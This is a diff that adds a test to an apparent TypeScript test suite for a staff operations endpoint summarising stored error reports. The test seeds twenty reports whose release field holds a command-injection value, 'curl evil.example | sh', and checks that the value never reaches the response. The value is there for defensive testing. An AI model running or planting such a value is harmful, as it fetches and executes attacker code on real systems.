@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto'
 import { mkdir, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 
@@ -290,6 +291,31 @@ test('views of what is not on the target are invented: they are not shown, and n
     http: 200,
     data: { apps: [], findings: [{ what: `Nothing is published to ${join(folder, 'none')}.` }] },
   })
+})
+
+test('what a report that is kept names as its deployment is part of no command, unless it is one', async () => {
+  const kept = {
+    page: '/order',
+    kind: 'render',
+    message: 'x',
+    reference: '',
+    stack: '',
+    engine: '',
+    shell: '',
+  } as const
+  const release = 'loan; curl evil.example | sh #@1'
+
+  await database.query
+    .insertInto('error_reports')
+    .values(Array.from({ length: 20 }, () => ({ ...kept, id: randomUUID(), release })))
+    .execute()
+
+  const { data } = await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')
+
+  expect((data as OpsSituation).findings).toContainEqual(
+    expect.objectContaining({ what: '20 reports in a day from /order: x' }),
+  )
+  expect(JSON.stringify(data)).not.toContain('evil')
 })
 
 test('what is published to a bucket is read there, and a bucket that is not there is an error', async () => {
